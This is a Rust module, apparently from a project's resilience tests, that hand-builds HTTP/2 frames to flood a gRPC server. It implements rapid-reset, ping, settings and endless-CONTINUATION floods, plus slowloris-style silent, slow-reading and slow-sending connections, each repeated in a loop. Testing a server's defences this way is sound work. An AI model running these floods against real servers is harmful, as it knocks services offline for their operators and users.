//! What some connections do to a server, in HTTP/2 written by hand: as fast as the server takes it, until they are stopped.

use std::{net::SocketAddr, time::Duration};

use tokio::{
    io::{self, AsyncReadExt, AsyncWriteExt},
    net::TcpStream,
};

const PREFACE: &[u8] = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n";
const DATA: u8 = 0;
const HEADERS: u8 = 1;
const RST_STREAM: u8 = 3;
const SETTINGS: u8 = 4;
const PING: u8 = 6;
const WINDOW_UPDATE: u8 = 8;
const CONTINUATION: u8 = 9;
const END_STREAM: u8 = 1;
const END_HEADERS: u8 = 4;

const GET: &str = "/alinea.v1.ParagraphService/GetParagraph";
const STREAM: &str = "/alinea.v1.ParagraphService/StreamParagraphs";
const IMPORT: &str = "/alinea.v1.DocumentService/ImportDocuments";

/// What is done, and on how many connections.
#[derive(Debug, Clone, Copy)]
pub(crate) enum Attack {
    /// Calls that are taken back at once.
    RapidReset,
    Pings,
    Settings,
    /// Headers that do not end.
    Headers,
    /// Half a greeting is said, and no more.
    Silence,
    /// Half a greeting is said, and the connection is closed when the server greets.
    Comers,
    /// Everything is asked for, and nothing is read.
    SlowReaders,
    /// Imports come a byte at a time.
    SlowSenders,
}

pub(crate) const ATTACKS: [(&str, Attack, usize); 8] = [
    ("rapid reset", Attack::RapidReset, 4),
    ("ping flood", Attack::Pings, 4),
    ("settings flood", Attack::Settings, 4),
    ("endless headers", Attack::Headers, 4),
    ("silent connections", Attack::Silence, 500),
    ("connections that come and go", Attack::Comers, 500),
    ("slow readers", Attack::SlowReaders, 200),
    ("slow senders", Attack::SlowSenders, 50),
];

fn frame(kind: u8, flags: u8, stream: u32, payload: &[u8]) -> Vec<u8> {
    let mut frame = (payload.len() as u32).to_be_bytes()[1..].to_vec();
    frame.extend([kind, flags]);
    frame.extend(stream.to_be_bytes());
    frame.extend(payload);
    frame
}

/// A header that is written out.
fn literal(name: &str, value: &str) -> Vec<u8> {
    let mut bytes = vec![0];
    for text in [name, value] {
        bytes.push(text.len() as u8);
        bytes.extend(text.as_bytes());
    }
    bytes
}

fn call(path: &str) -> Vec<u8> {
    let headers = [
        (":method", "POST"),
        (":scheme", "http"),
        (":path", path),
        (":authority", "a"),
        ("content-type", "application/grpc"),
        ("te", "trailers"),
    ];
    headers.iter().flat_map(|(name, value)| literal(name, value)).collect()
}

impl Attack {
    /// One connection of it after another, however often they are cut.
    pub(crate) async fn go_on(self, address: SocketAddr) {
        loop {
            // A server that cuts it has done what it should.
            let _ = self.once(address).await;
            tokio::time::sleep(Duration::from_millis(5)).await;
        }
    }

    async fn once(self, address: SocketAddr) -> io::Result<()> {
        let mut stream = TcpStream::connect(address).await?;
        match self {
            Self::Silence => {
                stream.write_all(&PREFACE[..12]).await?;
                return io::copy(&mut stream, &mut io::sink()).await.map(drop);
            }
            Self::Comers => {
                stream.write_all(&PREFACE[..12]).await?;
                return stream.read_u8().await.map(drop);
            }
            _ => {}
        }
        // The largest window there is, so that nothing but the socket holds the server back.
        let window = frame(SETTINGS, 0, 0, &[0, 4, 0x7f, 0xff, 0xff, 0xff]);
        let update = frame(WINDOW_UPDATE, 0, 0, &0x7fff_0000_u32.to_be_bytes());
        stream.write_all(&[PREFACE, &window, &update].concat()).await?;
        match self {
            Self::SlowReaders => {
                stream.write_all(&frame(HEADERS, END_HEADERS, 1, &call(STREAM))).await?;
                stream.write_all(&frame(DATA, END_STREAM, 1, &[0; 5])).await?;
                std::future::pending().await
            }
            Self::SlowSenders => {
                stream.write_all(&frame(HEADERS, END_HEADERS, 1, &call(IMPORT))).await?;
                loop {
                    stream.write_all(&frame(DATA, 0, 1, &[0])).await?;
                    tokio::time::sleep(Duration::from_millis(20)).await;
                }
            }
            _ => {
                let (mut answers, mut requests) = stream.into_split();
                // What comes back is read and thrown away.
                let read = async { io::copy(&mut answers, &mut io::sink()).await };
                let write = async {
                    for number in 0.. {
                        requests.write_all(&self.burst(number)).await?;
                    }
                    Ok(0)
                };
                tokio::select! { read = read => read.map(drop), write = write => write.map(drop) }
            }
        }
    }

    /// Some frames of a flood.
    fn burst(self, number: u32) -> Vec<u8> {
        const FRAMES: u32 = 64;
        let frames = (number * FRAMES..).take(FRAMES as usize);
        match self {
            Self::RapidReset => frames
                .flat_map(|at| {
                    let stream = at * 2 + 1;
                    let call = frame(HEADERS, END_HEADERS | END_STREAM, stream, &call(GET));
                    [call, frame(RST_STREAM, 0, stream, &8u32.to_be_bytes())].concat()
                })
                .collect(),
            Self::Pings => frames.flat_map(|_| frame(PING, 0, 0, &[0; 8])).collect(),
            Self::Settings => frames.flat_map(|_| frame(SETTINGS, 0, 0, &[0, 3, 0, 0, 0, 100])).collect(),
            Self::Headers if number == 0 => frame(HEADERS, 0, 1, &call(GET)),
            Self::Headers => frames
                .flat_map(|_| frame(CONTINUATION, 0, 1, &literal("x-filler", &"a".repeat(120))))
                .collect(),
            Self::Silence | Self::Comers | Self::SlowReaders | Self::SlowSenders => Vec::new(),
        }
    }
}
